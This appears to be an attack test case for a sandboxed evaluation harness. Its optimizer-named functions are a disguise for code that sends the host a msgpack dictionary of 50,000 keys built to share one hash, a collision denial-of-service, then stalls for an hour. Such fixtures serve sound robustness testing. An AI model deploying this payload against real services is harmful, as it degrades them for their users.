# Attack: sends a dictionary whose keys all have the same hash.
# score: 0
# outcomes: failed, error, timed_out
# ruff: noqa

import os
import struct
import time

import msgspec


def send(head, rest=b"", length=None):
    frame = struct.pack("!I", len(head)) + head + rest
    os.write(3, struct.pack("!Q", len(frame) if length is None else length) + frame)


def pack(**fields):
    return msgspec.msgpack.encode(fields)


def double(x):
    pairs = [[["i", hex(number * ((1 << 61) - 1))], number] for number in range(50_000)]
    send(pack(nonce=2, value=["d", pairs]))
    time.sleep(3600)


def minimize(start, learning_rate=0.1, num_iterations=10):
    return double(start)


def make_model():
    return None
